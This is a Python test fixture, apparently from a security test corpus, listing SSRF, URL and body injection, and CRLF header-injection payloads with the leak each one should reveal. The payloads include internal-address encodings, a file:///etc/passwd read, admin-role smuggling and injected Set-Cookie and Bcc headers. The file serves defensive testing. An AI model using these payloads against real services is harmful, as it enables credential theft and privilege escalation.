"""Attacks on requests to others."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.third import http

NEEDS = ("aws-http",)
TOKEN = "internal-token-4711"
INSIDE = "@INSIDE@/internal/creds"
ATTACKS = [
    Attack("SSRF", "fetch", http("GET", "/f", query={"url": INSIDE}), TOKEN),
    Attack("SSRF", "fetch", http("GET", "/f", query={"url": "http://2130706433:@PORT@/internal/x"}), TOKEN),
    Attack("SSRF", "fetch", http("GET", "/f", query={"url": "http://0.0.0.0:@PORT@/internal/x"}), TOKEN),
    Attack("SSRF", "fetch", http("GET", "/f", query={"url": "http://localhost:@PORT@/internal/x"}), TOKEN),
    Attack("SSRF", "fetch_httpx", {"url": INSIDE}, TOKEN),
    Attack("SSRF", "fetch_async", {"url": INSIDE}, TOKEN),
    Attack("SSRF", "fetch_urllib", {"url": "http://127.1:@PORT@/internal/x"}, TOKEN),
    Attack("SSRF", "fetch_urllib", {"url": "file:///etc/passwd"}, "root:x:0"),
    Attack("SSRF", "fetch_pool", {"image": "http://0x7f000001:@PORT@/internal/x"}, TOKEN),
    Attack("SSRF", "retrieve", {"url": INSIDE}, TOKEN),
    Attack("SSRF", "connection", {"url": INSIDE}, TOKEN),
    Attack("SSRF", "raw_socket", {"host": "127.0.0.1", "port": "@PORT@"}, TOKEN),
    Attack("SSRF", "host_in_url", {"region": "127.0.0.1:@PORT@/internal/x?"}, TOKEN),
    Attack("SSRF", "subdomain", {"tenant": "127.0.0.1:@PORT@/internal/x#"}, TOKEN),
    Attack("SSRF", "checked_word", {"url": "http://cdn.example.org@127.0.0.1:@PORT@/internal/x"}, TOKEN),
    Attack("SSRF", "checked_word", {"url": "@INSIDE@/internal/x?cdn.example.org"}, TOKEN),
    Attack("SSRF", "checked_block_list", {"url": "http://0:@PORT@/internal/x"}, TOKEN),
    Attack("SSRF", "joined", {"next": "//127.0.0.1:@PORT@/internal/x"}, TOKEN),
    Attack("SSRF", "joined", {"next": INSIDE}, TOKEN),
    Attack("SSRF", "webhook", http("POST", "/w", {"callback_url": INSIDE}), TOKEN),
    Attack("SSRF", "proxied", {"proxy": "@INSIDE@"}, TOKEN),
    Attack("SSRF", "proxied_urllib", {"proxy": "127.0.0.1:@PORT@"}, TOKEN),
    Attack("SSRF", "endpoint", {"endpoint": "@INSIDE@"}, TOKEN),
    Attack("SSRF", "read_frame", {"source": INSIDE}, TOKEN),
    Attack("SSRF", "curl", {"url": INSIDE}, TOKEN),
    Attack("SSRF", "rpc", {"server": "@INSIDE@/internal/x"}, "ExpatError"),
    Attack("SSRF, redirect", "follow", {"url": "@PARTNER@/redirect?to=@INSIDE@/internal/x"}, TOKEN),
    Attack(
        "SSRF, redirect",
        "follow_urllib",
        {"url": "@PARTNER@/redirect?to=http%3A//localhost%3A@PORT@/internal/x"},
        TOKEN,
    ),
    Attack("SSRF, second order", "call_hook", {}, TOKEN, before=[("keep_hook", {"url": INSIDE})]),
    Attack("URL structure", "path_of_url", {"document": "../internal/x"}, TOKEN),
    Attack("URL structure", "path_of_pool", {"id": "../internal/x?"}, TOKEN),
    Attack(
        "URL structure",
        "query_of_url",
        {"to": "eve&amount=999&role=admin#"},
        '/transfer?to=eve&amount=999&role=admin"',
    ),
    Attack("URL structure", "form_by_hand", {"note": "x&amount=0"}, "note=x&amount=0"),
    Attack(
        "body structure",
        "json_by_hand",
        {"name": 'x", "role": "user", "admin": true, "y": "'},
        '"admin": true',
    ),
    Attack("body structure", "xml_by_hand", {"note": "</note><price>0</price><note>"}, '"10", "0"'),
    Attack(
        "header", "redirect_header", {"to": "x\r\nSet-Cookie: session=evil"}, '"Set-Cookie": "session=evil"'
    ),
    Attack("header", "raw_request", {"tenant": "a\r\nX-Admin: yes"}, '\\"X-Admin\\": \\"yes\\"'),
    Attack("header", "raw_path", {"q": "x HTTP/1.0\r\nX-Admin: yes\r\nX-Rest:"}, '\\"X-Admin\\": \\"yes\\"'),
    Attack(
        "header",
        "mail_headers",
        {"subject": "Hi\r\nBcc: everyone@example.net", "text": "x"},
        '"everyone@example.net"',
    ),
]
